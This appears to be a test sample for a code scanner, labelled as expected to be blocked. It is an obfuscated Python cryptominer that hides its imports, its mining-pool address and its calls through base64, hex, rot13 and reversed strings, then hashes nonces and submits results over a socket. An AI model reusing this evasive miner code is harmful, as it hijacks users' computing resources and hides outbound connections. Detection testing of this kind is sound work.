# expect: BLOCKED category: miner variant-of: risky/miner/python_hashing_pool.py technique: encode+getattr
hashlib = __import__(__import__('base64').b64decode('aGFzaGxpYg==').decode())
json = __import__(bytes.fromhex('6a736f6e').decode())
socket = __import__(''.join(map(chr, [115, 111, 99, 107, 101, 116])))
POOL = (getattr(bytes, 'xehmorf'[::-1])('786d722e326d696e6572732e636f6d').decode(), 2222)
conn = getattr(socket, __import__('codecs').decode('perngr_pbaarpgvba', 'rot13'))(POOL)
nonce = 0
while True:
    digest = getattr(hashlib, ''.join(['s', 'h', 'a', '2', '5', '6']))(f'block{nonce}'.encode()).hexdigest()
    if getattr(digest, __import__('base64').b64decode('c3RhcnRzd2l0aA==').decode())(''.join(map(chr, [48, 48, 48, 48, 48]))):
        getattr(conn, ''.join(map(chr, [115, 101, 110, 100, 97, 108, 108])))(getattr(json, bytes.fromhex('64756d7073').decode())({'dohtem'[::-1]: ''.join(['m', 'i', 'n', 'i', 'n', 'g', '.', 's', 'u', 'b', 'm', 'i', 't']), __import__('codecs').decode('cnenzf', 'rot13'): [nonce]}).encode())
    nonce += 1
